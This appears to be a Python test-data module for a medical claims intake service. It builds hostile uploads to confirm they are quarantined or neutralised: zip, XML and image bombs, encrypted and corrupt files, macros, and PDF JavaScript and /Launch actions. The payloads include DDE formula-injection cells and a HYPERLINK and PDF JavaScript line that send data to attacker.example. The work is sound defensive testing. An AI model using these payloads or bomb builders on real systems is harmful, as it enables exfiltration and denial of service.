"""Hostile uploads: one builder per bad-input case, and what intake must make of it.

    from claims_intake_dev.testdata import hostile
    for case in hostile.CASES.values():
        data = case.build()            # the file's bytes, made in memory
        case.filename                  # the name a provider would give it
        case.code                      # the IntakeError / page error code intake must record
        case.refused                   # True: the file is quarantined; False: read, with a note

Every file is built from nothing but the project's own test-data makers, Pillow, pypdf and zlib, so
the tests, the soak bench and a curious engineer (`python -m claims_intake_dev.testdata.hostile DIR`)
all get the same files. Nothing here is ever executed by intake: the JavaScript, macro and embedded
payloads are inert strings that only have to look like the real thing to the checks.
"""

from __future__ import annotations

import argparse
import csv
import io
import re
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from functools import cache
from pathlib import Path

from PIL import Image

from .invoices import LAYOUTS, add_macro_project, invoice_bytes, invoice_rows, sample_claims

FORMULA_TRIGGERS = ("=", "+", "-", "@")
# Every file here bills the sample roster's provider (samples/reference/providers.csv), so a file read
# through the pipeline, uploaded into that provider's folder, is filed, not refused as another's.
PROVIDER_NPI = "1456700016"


def _provider_claims(**kwargs):
    claims = sample_claims(**kwargs)
    for claim in claims:
        claim.billing_provider_npi = PROVIDER_NPI
    return claims


@dataclass(frozen=True)
class HostileCase:
    name: str
    filename: str
    build: Callable[[], bytes]
    code: str  # the error (or note) intake must record
    refused: bool = True  # quarantined, provider notified; False: read, the problem neutralised
    note: str | None = None  # for accepted files: text that must appear in the recorded notes
    needs_ocr: bool = False  # the reader OCRs a page (slower; needs tesseract)
    why: str = ""


# ---- spreadsheets -----------------------------------------------------------------------------


@cache
def good_invoice_xlsx() -> bytes:
    return invoice_bytes(_provider_claims(count=1, lines=2, seed=10), "dhcs_template", "xlsx")


@cache
def good_invoice_csv() -> bytes:
    return invoice_bytes(_provider_claims(count=1, lines=2, seed=11), "dhcs_template", "csv")


def rewrite_zip(data: bytes, change: Callable[[str, bytes], bytes | None]) -> bytes:
    """A copy of a zip with change(part name, bytes) applied to each part (None drops the part)."""
    source = zipfile.ZipFile(io.BytesIO(data))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            new = change(info.filename, source.read(info))
            if new is not None:
                target.writestr(info.filename, new)
    return buffer.getvalue()


def xlsx_zip_bomb() -> bytes:
    """The first worksheet padded with 64 MiB of whitespace: ~70 KiB zipped, a ratio near 1000x."""

    def pad(name: str, data: bytes) -> bytes:
        return data + b" " * (64 << 20) if name == "xl/worksheets/sheet1.xml" else data

    return rewrite_zip(good_invoice_xlsx(), pad)


def xlsx_entity_expansion() -> bytes:
    """'Billion laughs': a DTD in the styles part whose entities expand to gigabytes."""
    laughs = [b'<!ENTITY lol0 "lol">'] + [f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">'.encode() for i in range(1, 10)]
    prolog = b'<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE lolz [' + b"".join(laughs) + b"]>\n"

    def poison(name: str, data: bytes) -> bytes:
        if name != "xl/styles.xml":
            return data
        body = re.sub(rb"^<\?xml[^>]*\?>\s*", b"", data)
        return prolog + body.replace(b"</styleSheet>", b"<x>&lol9;</x></styleSheet>")

    return rewrite_zip(good_invoice_xlsx(), poison)


def xlsm_with_macros() -> bytes:
    return add_macro_project(good_invoice_xlsx())


def xlsx_encrypted() -> bytes:
    """What Excel saves for a password-protected .xlsx: an OLE2 file holding an EncryptedPackage stream."""
    return (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
        + b"\x00" * 504
        + "EncryptionInfo".encode("utf-16-le")
        + b"\x00" * 64
        + "EncryptedPackage".encode("utf-16-le")
        + bytes(range(256)) * 16
    )


def csv_formula_injection() -> bytes:
    """A well-formed invoice whose text cells start with = + - @ (DDE and HYPERLINK payloads)."""
    claims = _provider_claims(count=1, lines=2, seed=12)
    claims[0].billing_provider_name = '=cmd|" /C calc"!A0'
    claims[0].member_address = '@SUM(1+1)*cmd|" /C calc"!A0'
    claims[0].billing_provider_address = '+HYPERLINK("http://attacker.example/?x="&A1,"click")'
    claims[0].member_city = "-2+3+cmd|' /C calc'!A0"
    # Written raw: the project's own writer would escape these cells (safe_cell), a provider's does not.
    buffer = io.StringIO(newline="")
    csv.writer(buffer, lineterminator="\r\n").writerows(
        ["" if value is None else value for value in row]
        for row in invoice_rows(claims, LAYOUTS["dhcs_template"], text_only=True)
    )
    return buffer.getvalue().encode("utf-8")


def csv_cp1252() -> bytes:
    """An Excel 'CSV' saved in Windows-1252: accented names are single bytes that are not UTF-8."""
    claims = _provider_claims(count=1, lines=2, seed=13)
    claims[0].member_last_name = "PEÑA-MUÑOZ"
    claims[0].billing_provider_name = "SERVICIOS DE SALUD JOSÉ"
    return invoice_bytes(claims, "dhcs_template", "csv", encoding="cp1252")


def csv_utf16() -> bytes:
    """Excel's 'Unicode Text': UTF-16 with a byte-order mark, tab-delimited (NUL bytes everywhere)."""
    claims = _provider_claims(count=1, lines=2, seed=14)
    claims[0].member_last_name = "NGUYỄN"
    return invoice_bytes(claims, "dhcs_template", "csv", encoding="utf-16", delimiter="\t")


def csv_million_rows() -> bytes:
    """A header and 1,000,000 service lines (~20 MB: under the byte limit, far over the row limit)."""
    header = b"Invoice Number,Procedure Code,Units,Member CIN,Service Start Date,Charge Amount\n"
    return header + b"INV-1,G9012,1,90000001A,3/4/24,45\n" * 1_000_000


def xlsx_million_rows() -> bytes:
    """A worksheet of 1,000,000 real rows (a few MB zipped), declared in its <dimension>."""
    rows = "".join(f'<row r="{r}"><c r="A{r}"><v>{r}</v></c></row>' for r in range(1, 1_000_001))
    sheet = (
        '<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/'
        f'spreadsheetml/2006/main"><dimension ref="A1:A1000000"/><sheetData>{rows}</sheetData></worksheet>'
    )
    return rewrite_zip(
        good_invoice_xlsx(), lambda name, data: sheet.encode() if name == "xl/worksheets/sheet1.xml" else data
    )


# ---- PDFs -------------------------------------------------------------------------------------


def _text_pdf(lines: list[str], pages: int = 1) -> bytes:
    from reportlab.lib.pagesizes import letter
    from reportlab.pdfgen import canvas

    buffer = io.BytesIO()
    pdf = canvas.Canvas(buffer, pagesize=letter)
    for _page in range(pages):
        y = 720
        for text in lines:
            pdf.drawString(72, y, text)
            y -= 16
        pdf.showPage()
    pdf.save()
    return buffer.getvalue()


def _writer_with_a_page():
    from pypdf import PdfReader, PdfWriter

    return PdfWriter(clone_from=PdfReader(io.BytesIO(_text_pdf(["CMS-1500 claim attached"]))))


def _written(writer) -> bytes:
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def pdf_truncated() -> bytes:
    """A real one-page PDF cut off before its objects end: no xref, no trailer, a page object half-written."""
    data = _text_pdf(["Claim form"] * 20)
    return data[: len(data) // 3]


def pdf_garbage() -> bytes:
    """A PDF header followed by noise (a damaged transfer)."""
    return b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n" + bytes((i * 7919) % 251 for i in range(20000))


def pdf_encrypted() -> bytes:
    writer = _writer_with_a_page()
    writer.encrypt(user_password="member-dob", owner_password="owner", algorithm="AES-256")
    return _written(writer)


def pdf_500_pages() -> bytes:
    from pypdf import PdfWriter

    writer = PdfWriter()
    for _ in range(500):
        writer.add_blank_page(width=612, height=792)
    return _written(writer)


def pdf_javascript() -> bytes:
    """A document-level JavaScript action run when the PDF is opened (the classic /OpenAction)."""
    from pypdf.generic import DictionaryObject, NameObject, TextStringObject

    writer = _writer_with_a_page()
    writer._root_object[NameObject("/OpenAction")] = DictionaryObject(
        {
            NameObject("/S"): NameObject("/JavaScript"),
            NameObject("/JS"): TextStringObject(
                'app.launchURL("http://attacker.example/?" + this.getField("1a").value);'
            ),
        }
    )
    return _written(writer)


def pdf_embedded_file() -> bytes:
    writer = _writer_with_a_page()
    writer.add_attachment("claim-helper.exe", b"MZ\x90\x00" + b"\x00" * 256)
    return _written(writer)


def pdf_not_a_cms1500() -> bytes:
    """A letter, not a claim form: text lines and no CMS-1500 ruling."""
    lines = [
        "Dear Claims Department,",
        "",
        "Please find our invoice for March services below.",
        "We served 14 members under Enhanced Care Management this month.",
        "Contact our billing office with any questions.",
        "",
        "Sincerely,",
        "Billing Office",
    ]
    return _text_pdf(lines * 3)


# ---- images -----------------------------------------------------------------------------------


def _png_chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body) & 0xFFFFFFFF)


def png_decompression_bomb(side: int = 30_000) -> bytes:
    """A valid 1-bit PNG of side x side pixels (900 Mpx, ~110 MB decoded) in ~110 KB."""
    row = b"\x00" + b"\x00" * ((side + 7) // 8)
    compressor = zlib.compressobj(9)
    block = row * 256
    parts = [compressor.compress(block) for _ in range(side // 256)]
    parts.append(compressor.compress(row * (side % 256)))
    parts.append(compressor.flush())
    header = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", header)
        + _png_chunk(b"IDAT", b"".join(parts))
        + _png_chunk(b"IEND", b"")
    )


def tiff_200_pages() -> bytes:
    """200 fax-like 1-bit pages (CCITT G4), each letter-size at 100 dpi to keep it small."""
    page = Image.new("1", (850, 1100), 1)
    buffer = io.BytesIO()
    page.save(buffer, "TIFF", save_all=True, append_images=[page] * 199, compression="group4", dpi=(100, 100))
    return buffer.getvalue()


def png_truncated() -> bytes:
    image = Image.new("L", (1275, 1650), 255)
    buffer = io.BytesIO()
    image.save(buffer, "PNG")
    return buffer.getvalue()[:400]


# ---- CMS-1500 scans (need OCR) -----------------------------------------------------------------


def _scan_pdf(image: Image.Image) -> bytes:
    buffer = io.BytesIO()
    image.save(buffer, "PDF", resolution=300.0)
    return buffer.getvalue()


def blank_cms1500() -> bytes:
    """The CMS-1500 printed with nothing filled in, scanned."""
    from .scans import render_form

    return _scan_pdf(render_form({}))


def upside_down_cms1500() -> bytes:
    """A filled claim fed into the scanner upside down."""
    from .scans import render_pages, sample_claim

    claim = sample_claim(seed=21, lines=2)
    for fields in claim.pages:
        fields["pin"] = PROVIDER_NPI
    claim.expected["elements"]["billing_provider_npi"] = PROVIDER_NPI
    page = render_pages(claim)[0]
    return _scan_pdf(page.rotate(180))


# ---- round two: the probe's memory, shape and action cases --------------------------------------


def _with_sheet_cell(reference: str) -> bytes:
    """The good invoice with one extra cell (a number) at `reference`, in a row of its own at the end."""
    row = int("".join(ch for ch in reference if ch.isdigit()))

    def add(name: str, data: bytes) -> bytes:
        if name != "xl/worksheets/sheet1.xml":
            return data
        cell = f'<row r="{row}"><c r="{reference}"><v>1</v></c></row>'.encode()
        return data.replace(b"</sheetData>", cell + b"</sheetData>")

    return rewrite_zip(good_invoice_xlsx(), add)


def xlsx_far_cell() -> bytes:
    """A 6 KB invoice with one stray cell at XFD20000: a dense reader allocates 20,000 x 16,384 cells."""
    return _with_sheet_cell("XFD20000")


def xlsx_wide_area() -> bytes:
    """A stray cell at GR19000 (column 200): under the column limit, 3.8 million cells of used area."""
    return _with_sheet_cell("GR19000")


def _png(width: int, height: int) -> bytes:
    """A valid white 1-bit PNG of any size, compressed row by row (a 40-Mpx strip is ~100 KB)."""
    row = b"\x00" + b"\xff" * ((width + 7) // 8)
    compressor = zlib.compressobj(9)
    parts = [compressor.compress(row * min(4096, height - start)) for start in range(0, height, 4096)]
    parts.append(compressor.flush())
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", header)
        + _png_chunk(b"IDAT", b"".join(parts))
        + _png_chunk(b"IEND", b"")
    )


def png_strip() -> bytes:
    """20000 x 20 pixels (1.4 KB): taken as a letter page 20 px wide, OCR would blow it up 40-fold."""
    return _png(20_000, 20)


def png_line() -> bytes:
    """1 x 39,999,999 pixels: under the pixel limit, a page of no width."""
    return _png(1, 39_999_999)


def pdf_huge_page() -> bytes:
    """One blank 200 x 200 inch page (1.4 KB): rendered for OCR it is billions of pixels."""
    from pypdf import PdfWriter

    writer = PdfWriter()
    writer.add_blank_page(width=14_400, height=14_400)
    return _written(writer)


def _with_action(place: str, action: dict) -> bytes:
    """The one-page PDF with `action` hung at `place`: open, page, link or chain."""
    from pypdf.generic import ArrayObject, DictionaryObject, FloatObject, NameObject, TextStringObject

    def pdf_value(value):
        if isinstance(value, dict):
            return DictionaryObject({NameObject(k): pdf_value(v) for k, v in value.items()})
        return NameObject(value) if value.startswith("/") else TextStringObject(value)

    writer = _writer_with_a_page()
    action_object = writer._add_object(pdf_value(action))
    page = writer.pages[0]
    if place == "open":
        writer._root_object[NameObject("/OpenAction")] = action_object
    elif place == "page":
        page[NameObject("/AA")] = DictionaryObject({NameObject("/O"): action_object})
    elif place == "link":
        link = DictionaryObject(
            {
                NameObject("/Type"): NameObject("/Annot"),
                NameObject("/Subtype"): NameObject("/Link"),
                NameObject("/Rect"): ArrayObject([FloatObject(v) for v in (72, 72, 300, 100)]),
                NameObject("/A"): action_object,
            }
        )
        page[NameObject("/Annots")] = ArrayObject([writer._add_object(link)])
    elif place == "chain":  # a harmless first action whose /Next runs the payload
        first = DictionaryObject(
            {
                NameObject("/S"): NameObject("/GoTo"),
                NameObject("/D"): ArrayObject([page.indirect_reference, NameObject("/Fit")]),
                NameObject("/Next"): action_object,
            }
        )
        writer._root_object[NameObject("/OpenAction")] = writer._add_object(first)
    return _written(writer)


_SCRIPT = {"/S": "/JavaScript", "/JS": "app.alert('hello');"}


def pdf_launch() -> bytes:
    return _with_action("open", {"/S": "/Launch", "/F": "cmd.exe"})


def pdf_page_javascript() -> bytes:
    return _with_action("page", _SCRIPT)


def pdf_link_javascript() -> bytes:
    return _with_action("link", _SCRIPT)


def pdf_javascript_chain() -> bytes:
    return _with_action("chain", _SCRIPT)


def pdf_owner_password_only() -> bytes:
    """A letter with permissions only (no password to open): every viewer opens it, so must intake."""
    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf_not_a_cms1500())))
    writer.encrypt(user_password="", owner_password="owner-secret", algorithm="AES-128")
    return _written(writer)


def csv_named_exe() -> bytes:
    return good_invoice_csv()


def csv_nul_late() -> bytes:
    """A long CSV (past the 64 KiB the type sniffer reads) with a NUL byte inside a member's name."""
    claims = _provider_claims(count=200, lines=3, seed=12)
    claims[-1].member_last_name = "SMITH\x00DROP"
    return invoice_bytes(claims, "dhcs_template", "csv")


def csv_mixed_encoding() -> bytes:
    """UTF-8 throughout except one row a Windows program appended in cp1252."""
    claims = _provider_claims(count=2, lines=1, seed=13)
    claims[0].member_last_name = "NUÑEZ"
    claims[1].member_last_name = "PEÑA"
    text = invoice_bytes(claims, "dhcs_template", "csv")
    return text.replace("PEÑA".encode(), "PEÑA".encode("cp1252"))


# ---- other files ------------------------------------------------------------------------------


def unknown_type() -> bytes:
    """An ELF executable header followed by padding: no kind intake reads."""
    return b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00" + bytes(range(256)) * 8


CASES: dict[str, HostileCase] = {
    case.name: case
    for case in [
        HostileCase("empty_file", "invoice.xlsx", lambda: b"", "empty_file", why="0 bytes"),
        HostileCase(
            "wrong_extension", "invoice.pdf", good_invoice_xlsx, "wrong_extension", why="an .xlsx workbook named .pdf"
        ),
        HostileCase("unknown_type", "claims.bin", unknown_type, "unsupported_type", why="an executable"),
        HostileCase("pdf_truncated", "claim.pdf", pdf_truncated, "pdf_corrupt", why="a PDF cut off at a third"),
        HostileCase("pdf_garbage", "claim.pdf", pdf_garbage, "pdf_corrupt", why="a PDF header over noise"),
        HostileCase("pdf_encrypted", "claim.pdf", pdf_encrypted, "pdf_encrypted", why="AES-256, user password"),
        HostileCase("pdf_500_pages", "claims.pdf", pdf_500_pages, "too_many_pages", why="500 pages"),
        HostileCase("pdf_javascript", "claim.pdf", pdf_javascript, "pdf_javascript", why="document JavaScript"),
        HostileCase("pdf_embedded_file", "claim.pdf", pdf_embedded_file, "pdf_embedded_files", why="an embedded .exe"),
        HostileCase(
            "image_bomb", "claim.png", png_decompression_bomb, "image_too_large", why="900-megapixel PNG in ~110 KB"
        ),
        HostileCase("image_truncated", "claim.png", png_truncated, "image_corrupt", why="a PNG cut off"),
        HostileCase("tiff_200_pages", "claims.tif", tiff_200_pages, "too_many_pages", why="200 fax pages"),
        HostileCase("xlsx_zip_bomb", "invoice.xlsx", xlsx_zip_bomb, "zip_bomb", why="64 MiB of XML in ~70 KiB"),
        HostileCase(
            "xlsx_entity_expansion", "invoice.xlsx", xlsx_entity_expansion, "xml_entities", why="billion laughs DTD"
        ),
        HostileCase(
            "xlsx_encrypted", "invoice.xlsx", xlsx_encrypted, "encrypted_workbook", why="password-protected workbook"
        ),
        HostileCase("csv_million_rows", "invoice.csv", csv_million_rows, "too_many_rows", why="1,000,000 rows"),
        HostileCase("xlsx_million_rows", "invoice.xlsx", xlsx_million_rows, "too_many_rows", why="1,000,000 rows"),
        HostileCase(
            "not_cms1500",
            "claim.pdf",
            pdf_not_a_cms1500,
            "not_cms1500",
            needs_ocr=True,
            why="a letter, not a claim form",
        ),
        HostileCase(
            "blank_cms1500",
            "claim.pdf",
            blank_cms1500,
            "no_data",
            needs_ocr=True,
            why="a CMS-1500 with nothing filled in",
        ),
        HostileCase(
            "xlsx_far_cell", "invoice.xlsx", xlsx_far_cell, "too_many_columns", why="one stray cell at XFD20000"
        ),
        HostileCase(
            "xlsx_wide_area", "invoice.xlsx", xlsx_wide_area, "too_many_cells", why="one stray cell at GR19000"
        ),
        HostileCase("png_strip", "claim.png", png_strip, "page_size", why="20000 x 20 pixels"),
        HostileCase("png_line", "claim.png", png_line, "page_size", why="1 x 39,999,999 pixels"),
        HostileCase("pdf_huge_page", "claim.pdf", pdf_huge_page, "page_size", why="a 200 x 200 inch page"),
        HostileCase("pdf_launch", "claim.pdf", pdf_launch, "pdf_action", why="an /OpenAction /Launch"),
        HostileCase(
            "pdf_page_javascript",
            "claim.pdf",
            pdf_page_javascript,
            "pdf_javascript",
            why="a page-open JavaScript action",
        ),
        HostileCase(
            "pdf_link_javascript", "claim.pdf", pdf_link_javascript, "pdf_javascript", why="a link running JavaScript"
        ),
        HostileCase(
            "pdf_javascript_chain",
            "claim.pdf",
            pdf_javascript_chain,
            "pdf_javascript",
            why="a GoTo /OpenAction whose /Next is JavaScript",
        ),
        HostileCase("csv_named_exe", "invoice.exe", csv_named_exe, "wrong_extension", why="a CSV named .exe"),
        HostileCase("csv_nul_late", "invoice.csv", csv_nul_late, "binary_content", why="a NUL byte at 70 KB"),
        HostileCase(
            "pdf_owner_password",
            "claim.pdf",
            pdf_owner_password_only,
            "not_cms1500",
            needs_ocr=True,
            why="an owner password only: read (a letter, so no claim), not refused as encrypted",
        ),
        # Read, with the danger neutralised and a note recorded (not quarantined):
        HostileCase(
            "csv_mixed_encoding",
            "invoice.csv",
            csv_mixed_encoding,
            "mixed_encoding",
            refused=False,
            note="Windows-1252 on line",
            why="UTF-8 with one cp1252 row",
        ),
        HostileCase(
            "xlsm_macros",
            "invoice.xlsm",
            xlsm_with_macros,
            "macros_ignored",
            refused=False,
            note="macros never run",
            why="an Auto_Open VBA project",
        ),
        HostileCase(
            "csv_formula_injection",
            "invoice.csv",
            csv_formula_injection,
            "formula_text",
            refused=False,
            why="cells starting with = + - @",
        ),
        HostileCase(
            "csv_cp1252",
            "invoice.csv",
            csv_cp1252,
            "not_utf8",
            refused=False,
            note="read as cp1252",
            why="Windows-1252 bytes",
        ),
        HostileCase(
            "csv_utf16",
            "invoice.csv",
            csv_utf16,
            "not_utf8",
            refused=False,
            note="read as utf-16",
            why="Excel Unicode Text",
        ),
        HostileCase(
            "upside_down",
            "claim.pdf",
            upside_down_cms1500,
            "upside_down",
            refused=False,
            needs_ocr=True,
            note="upside down",
            why="scanned upside down",
        ),
    ]
}


def main(argv: list[str] | None = None) -> None:
    parser = argparse.ArgumentParser(description="Write every hostile test upload into a folder.")
    parser.add_argument("outdir", type=Path)
    parser.add_argument("--only", nargs="*", help="case names (default: all)")
    args = parser.parse_args(argv)
    args.outdir.mkdir(parents=True, exist_ok=True)
    for name in args.only or CASES:
        case = CASES[name]
        path = args.outdir / f"{case.name}--{case.filename}"
        path.write_bytes(case.build())
        print(f"{path}  ({path.stat().st_size:,} bytes; expect {case.code})")


if __name__ == "__main__":
    main()
